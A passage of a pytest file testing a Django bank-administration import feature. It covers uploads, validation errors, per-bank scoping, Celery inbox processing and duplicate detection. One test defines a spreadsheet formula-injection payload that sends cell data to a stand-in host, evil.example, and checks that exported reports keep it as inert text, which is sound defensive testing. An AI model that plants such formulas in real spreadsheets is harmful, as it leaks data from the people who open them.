    client.cookies["django_language"] = "en"
    page = client.get(reverse("sysadmin:import_upload"))
    assert page.status_code == 200 and 'name="bank"' not in page.content.decode()  # own bank only
    content = BRANCH_HEADER + "A-NJ,南京分行,A-CN,branch,CN,Asia/Shanghai\n" + "A-NJ-1,鼓楼支行,A-NJ,sub_branch,CN,Europe/Paris\n"
    response = client.post(reverse("sysadmin:import_upload"), {"kind": "branches", "file": upload("nanjing.csv", content)})
    batch = ImportBatch.objects.get(original_name="nanjing.csv")
    assert response.status_code == 302 and response["Location"] == reverse("sysadmin:import_detail", args=[batch.pk])
    assert batch.bank == org.bank_a and batch.uploaded_by == org.admin

    with django_assert_max_num_queries(12):
        html = client.get(reverse("sysadmin:import_detail", args=[batch.pk])).content.decode()
    assert 'data-row="3" data-field="timezone"' in html
    assert "Europe/Paris is not a time zone of CN" in html
    assert 'id="import-apply"' in html and "A-NJ" in html

    report = client.get(reverse("sysadmin:import_errors_xlsx", args=[batch.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(report.streaming_content))).worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["Row", "Column", "Value", "Reason"]
    assert rows[1] == [
        3,
        "timezone",
        "Europe/Paris",
        "Europe/Paris is not a time zone of CN; use one of: Asia/Shanghai, Asia/Urumqi.",
    ]
    assert AuditLog.objects.filter(action=AuditLog.Action.EXPORT, object_type="sysadmin.importbatch").exists()

    response = client.post(reverse("sysadmin:import_apply", args=[batch.pk]), follow=True)
    assert "Applied: 1 created, 0 updated, 0 unchanged, 1 rows with errors not applied." in response.content.decode()
    assert Branch.objects.filter(bank=org.bank_a, code="A-NJ").exists()
    assert not Branch.objects.filter(code="A-NJ-1").exists()
    html = client.get(reverse("sysadmin:import_detail", args=[batch.pk])).content.decode()
    assert 'id="import-apply"' not in html  # applied: no second button

    # A rejected upload lands on its page with the reason.
    response = client.post(reverse("sysadmin:import_upload"), {"kind": "staff", "file": upload("photo.xlsx", PNG)}, follow=True)
    assert "This is a PNG image, not a spreadsheet" in response.content.decode()


def test_list_page_shows_own_bank_only_with_bounded_queries(org, client, django_assert_max_num_queries):
    for index in range(6):
        stage(org, "branches", BRANCH_HEADER + f"A-L{index},L,A-CN,branch,CN,Asia/Shanghai\n", name=f"a{index}.csv")
    services.stage_file(
        org.bank_b, "branches", upload("b.csv", BRANCH_HEADER + "B-X,X,B-HO,branch,HK,Asia/Hong_Kong\n"), org.b_admin
    )
    client.force_login(org.admin)
    client.get(reverse("sysadmin:import_list"))  # warm the per-person caches (the navigation's badges)
    with django_assert_max_num_queries(12 + second_factor_queries(org.admin)):
        html = client.get(reverse("sysadmin:import_list")).content.decode()
    assert all(f"a{index}.csv" in html for index in range(6))
    assert "b.csv" not in html
    html = client.get(reverse("sysadmin:import_list"), {"status": "rejected"}).content.decode()
    assert "a0.csv" not in html


def test_superuser_chooses_the_bank(org, client):
    root = Staff.objects.create_superuser(
        "root", password="x-Root-Pass-2026!", must_change_password=False, password_changed_at=timezone.now()
    )
    client.force_login(root)
    page = client.get(reverse("sysadmin:import_upload")).content.decode()
    assert 'name="bank"' in page
    client.post(
        reverse("sysadmin:import_upload"),
        {
            "bank": org.bank_b.pk,
            "kind": "branches",
            "file": upload("b.csv", BRANCH_HEADER + "B-SZ,X,B-HO,branch,HK,Asia/Hong_Kong\n"),
        },
    )
    batch = ImportBatch.objects.get(original_name="b.csv")
    assert batch.bank == org.bank_b and batch.valid_rows == 1


def test_system_admin_role_holds_the_import_permission(org):
    assert Group.objects.get(name="system_admin").permissions.filter(codename="run_imports").exists()
    assert org.admin.has_perm("sysadmin.run_imports")
    assert not org.supervisor.has_perm("sysadmin.run_imports")


# --- the inbox on a real worker ---------------------------------------------------------------------------


def age(path, seconds=3600):
    past = time.time() - seconds
    os.utime(path, (past, past))


@pytest.mark.worker
def test_inbox_task_on_a_real_worker_imports_once(org, celery_worker_factory, tmp_path, settings):
    inbox, media = tmp_path / "worker-inbox", tmp_path / "worker-media"
    settings.IMPORT_INBOX_DIR = str(inbox)
    celery_worker_factory(OCRM_IMPORT_INBOX=str(inbox), MEDIA_ROOT=str(media))

    # First run: the folder layout appears.
    assert import_inbox.delay().get(timeout=120) == {"files": []}
    folder = inbox / "BKA" / "branches"
    assert (folder / "processed").is_dir() and (folder / "rejected").is_dir()
    assert (inbox / "BKB" / "holidays" / "rejected").is_dir()

    content = (
        BRANCH_HEADER
        + "A-INB,收件箱分行,A-CN,branch,CN,Asia/Shanghai\n"
        + "A-INB-1,收件箱支行,A-INB,sub_branch,CN,Asia/Shanghai\n"
        + "A-INB-2,坏时区,A-INB,sub_branch,CN,Europe/Paris\n"
    ).encode()
    (folder / "drop.csv").write_bytes(content)
    age(folder / "drop.csv")
    (folder / "young.csv").write_bytes(content)  # still being copied in: left for the next run
    result = import_inbox.delay().get(timeout=120)
    assert [r["outcome"] for r in result["files"]] == ["processed"]
    assert set(Branch.objects.filter(code__startswith="A-INB").values_list("code", flat=True)) == {"A-INB", "A-INB-1"}
    batch = ImportBatch.objects.get(source=ImportBatch.Source.INBOX)
    assert (batch.status, batch.created_count, batch.invalid_rows) == (ImportBatch.Status.APPLIED, 2, 1)
    assert batch.job_run.status == JobRun.Status.SUCCEEDED and batch.job_run.counts["created"] == 2
    assert not (folder / "drop.csv").exists() and (folder / "young.csv").exists()
    processed = sorted(p.name for p in (folder / "processed").iterdir())
    assert len(processed) == 2 and processed[0].endswith("-drop.csv") and processed[1] == processed[0] + ".report.txt"
    report = (folder / "processed" / processed[1]).read_text(encoding="utf-8")
    assert "row 4, timezone = 'Europe/Paris': Europe/Paris is not a time zone of CN" in report

    # The same bytes again (young.csv, now settled): recognised by its SHA-256, nothing applied.
    audit_before = AuditLog.objects.exclude(action=AuditLog.Action.IMPORT).count()
    age(folder / "young.csv")
    result = import_inbox.delay().get(timeout=120)
    assert [r["outcome"] for r in result["files"]] == ["processed"]
    assert ImportBatch.objects.filter(source=ImportBatch.Source.INBOX).count() == 1
    assert JobRun.objects.filter(job="org_import_inbox").count() == 1
    assert AuditLog.objects.exclude(action=AuditLog.Action.IMPORT).count() == audit_before
    reports = [p.read_text(encoding="utf-8") for p in (folder / "processed").glob("*young.csv.report.txt")]
    assert len(reports) == 1 and "was imported before; nothing was changed" in reports[0]

    # A picture dropped as a staff file: rejected with the reason, nothing written.
    staff_folder = inbox / "BKA" / "staff"
    (staff_folder / "photo.csv").write_bytes(PNG)
    age(staff_folder / "photo.csv")
    staff_before = Staff.objects.count()
    result = import_inbox.delay().get(timeout=120)
    assert [r["outcome"] for r in result["files"]] == ["rejected"]
    assert Staff.objects.count() == staff_before
    rejected_report = next((staff_folder / "rejected").glob("*.report.txt")).read_text(encoding="utf-8")
    assert "PNG image" in rejected_report
    assert JobRun.objects.get(job="org_import_inbox", status=JobRun.Status.FAILED).key.endswith(
        ImportBatch.objects.get(original_name="photo.csv").sha256
    )


@pytest.mark.worker
def test_a_large_upload_is_applied_by_a_worker_and_the_page_follows_it(org, celery_worker_factory, client, settings):
    settings.IMPORT_SYNC_APPLY_MAX_ROWS = 1  # "large" = more than one valid row
    batch = stage(
        org,
        "branches",
        BRANCH_HEADER + "A-BG,后台分行,A-CN,branch,CN,Asia/Shanghai\n" + "A-BG-1,后台支行,A-BG,sub_branch,CN,Asia/Shanghai\n",
    )
    client.force_login(org.admin)
    client.cookies["django_language"] = "en"
    assert "(in the background)" in client.get(reverse("sysadmin:import_detail", args=[batch.pk])).content.decode()

    # Queued while no worker runs yet: the page says so and offers no second Apply.
    response = client.post(reverse("sysadmin:import_apply", args=[batch.pk]), follow=True)
    html = response.content.decode()
    assert "being applied in the background" in html and 'id="import-applying"' in html
    assert 'id="import-apply"' not in html
    client.post(reverse("sysadmin:import_apply", args=[batch.pk]))  # a second click queues nothing more
    assert JobRun.objects.filter(job="org_import_apply").count() == 1
    assert not Branch.objects.filter(code__startswith="A-BG").exists()

    celery_worker_factory()
    batch = wait_for(
        lambda: ImportBatch.objects.filter(pk=batch.pk, status=ImportBatch.Status.APPLIED).first(), "the batch to be applied"
    )
    assert (batch.created_count, batch.applied_by) == (2, org.admin)
    run = JobRun.objects.get(job="org_import_apply")
    assert run.status == JobRun.Status.SUCCEEDED and run.counts["created"] == 2 and run.triggered_by == org.admin
    assert Branch.objects.get(code="A-BG-1").parent.code == "A-BG"
    html = client.get(reverse("sysadmin:import_detail", args=[batch.pk])).content.decode()
    assert 'id="import-applying"' not in html and 'id="count-created">2<' in html


# --- downloads arrive inert ----------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_the_error_report_arrives_inert_with_row_numbers_as_numbers(org, client):
    content = BRANCH_HEADER + f'"{FORMULA.replace(chr(34), chr(34) * 2)}",X,,branch,CN,Asia/Shanghai\n'
    batch = stage(org, "branches", content)
    assert batch.invalid_rows == 1
    client.force_login(org.admin)
    client.cookies["django_language"] = "en"
    report = client.get(reverse("sysadmin:import_errors_xlsx", args=[batch.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(report.streaming_content))).worksheets[0]
    row, column, value, _reason = next(sheet.iter_rows(min_row=2))
    assert (row.data_type, row.value, column.value) == ("n", 2, "code")
    assert (value.data_type, value.value, value.quotePrefix) == ("s", FORMULA, True)  # text, never a live formula


def test_template_columns_are_text_for_what_people_type_in(org, client):
    client.force_login(org.admin)
    response = client.get(reverse("sysadmin:import_template", args=["branches"]))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    letters = [cell.column_letter for cell in sheet[1]]
    assert len(letters) == len(SPECS["branches"].columns)
    assert all(sheet.column_dimensions[letter].number_format == "@" for letter in letters)  # 001 stays 001
    assert sheet.max_row == 1
